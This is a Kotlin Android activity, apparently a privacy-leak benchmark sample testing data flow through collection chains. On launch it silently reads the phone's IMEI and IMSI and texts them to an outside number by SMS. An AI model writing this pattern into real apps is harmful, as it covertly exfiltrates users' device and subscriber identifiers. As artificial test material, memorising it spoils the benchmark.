package cn.privlens.suite.collections_chain

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val ids = listOf((getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId, (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).subscriberId, "x")
        val text = ids.filter { it.length > 3 }.map { it.uppercase() }.joinToString(";")
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null)
    }
}
